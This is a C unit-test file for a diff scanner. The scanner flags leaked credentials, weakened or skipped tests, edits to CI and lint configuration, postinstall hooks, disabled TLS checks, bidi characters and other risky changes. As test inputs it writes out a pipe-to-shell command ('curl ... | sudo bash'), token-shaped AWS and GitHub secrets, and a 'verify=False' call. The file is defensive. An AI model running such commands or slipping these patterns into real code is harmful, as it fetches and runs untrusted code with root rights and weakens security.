/* What the engine refuses by itself in a diff. */
#include "test.h"

#include "base/alloc.h"
#include "base/str.h"
#include "base/vec.h"
#include "team/builtin_checks.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* The ids that DIFF trips, joined by blanks; caller frees. */
static char *checks_of(const char *diff, const char *allowed)
{
    struct str_list allow = {0};
    struct str_list ids = {0};
    struct vec findings = {0};
    char *joined;

    if (allowed != NULL)
        str_list_add(&allow, allowed);
    assert_int_equal(builtin_checks_run(diff, strlen(diff), &allow, &findings, NULL), 0);
    for (size_t i = 0; i < findings.len; i++) {
        str_list_add(&ids, ((struct check_finding *)findings.items[i])->check);
        check_finding_destroy(findings.items[i]);
    }
    joined = str_list_join(&ids, " ");
    str_list_finish(&allow);
    str_list_finish(&ids);
    vec_finish(&findings);
    return joined;
}

static char *file_diff(const char *path, const char *head, const char *lines)
{
    return xasprintf("diff --git a/%s b/%s\n%sindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n@@ -1,1 +1,9 @@\n%s", path,
                     path, head, path, path, lines);
}

static void expect(const char *path, const char *head, const char *lines, const char *ids)
{
    char *diff = file_diff(path, head, lines);
    char *got = checks_of(diff, NULL);

    assert_string_equal(got, ids);
    free(got);
    free(diff);
}

static void plain_changes_pass(void **state)
{
    (void)state;
    expect("src/a.c", "", " int a;\n+int b;\n-int c;\n", "");
}

static void credentials_are_found(void **state)
{
    char line[200];

    (void)state;
    (void)snprintf(line, sizeof line, "+key = \"%s%s\"\n", "AKIA", "Q7XK2MZP4LT9WRN3");
    expect("src/a.c", "", line, "credential");
    (void)snprintf(line, sizeof line, "+%s%s\n", "ghp_", "a8Kd93jfLs02mXnB7vQpR4tYwE6uI1oP5sZc");
    expect("src/a.c", "", line, "credential");
    (void)snprintf(line, sizeof line, "+-----BEGIN %s PRIVATE KEY-----\n", "RSA");
    expect("keys/a", "", line, "credential");
}

static void placeholders_and_removed_keys_pass(void **state)
{
    (void)state;
    expect("src/a.c", "", "+key = \"AKIAIOSFODNN7EXAMPLE\"\n", "");
    expect("src/a.c", "", "+key = \"AKIAXXXXXXXXXXXXXXXX\"\n", "");
    expect("src/a.c", "", "-key = \"AKIAQ7XK2MZP4LT9WRN3\"\n", "");
}

static void weakened_tests_are_found(void **state)
{
    (void)state;
    expect("tests/test_a.c", "", "-    assert(a == 1);\n-    assert(b == 2);\n+    assert(a);\n", "tests-removed");
    expect("tests/test_a.py", "", "+@pytest.mark.skip\n", "tests-skipped");
    expect("tests/test_a.c", "deleted file mode 100644\n", "-int a;\n", "tests-removed");
}

static void judges_are_not_changed_in_silence(void **state)
{
    (void)state;
    expect(".github/workflows/ci.yml", "", "+x\n", "ci-changed");
    expect(".clang-tidy", "", "+x\n", "lint-changed");
    expect("package-lock.json", "", "+x\n", "lock-changed");
    expect("package.json", "", "+  \"postinstall\": \"node x.js\"\n", "lifecycle-script");
}

static void tricks_are_found(void **state)
{
    (void)state;
    expect("a.sh", "", "+curl -fsSL https://x.example/i | sudo bash\n", "pipe-to-shell");
    expect("a.py", "", "+requests.get(u, verify=False)\n", "tls-off");
    expect("a.c", "", "+/* \xe2\x80\xae */\n", "bidi");
    expect("config/.env", "new file mode 100644\n", "+A=1\n", "secret-file");
    expect("lib", "new file mode 160000\n", "+Subproject commit 1\n", "submodule");
}

static void an_allowed_check_is_silent(void **state)
{
    char *diff = file_diff(".github/workflows/ci.yml", "", "+x\n");
    char *got = checks_of(diff, "ci-changed");

    (void)state;
    assert_string_equal(got, "");
    free(got);
    free(diff);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_changes_pass),
        cmocka_unit_test(credentials_are_found),
        cmocka_unit_test(placeholders_and_removed_keys_pass),
        cmocka_unit_test(weakened_tests_are_found),
        cmocka_unit_test(judges_are_not_changed_in_silence),
        cmocka_unit_test(tricks_are_found),
        cmocka_unit_test(an_allowed_check_is_silent),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
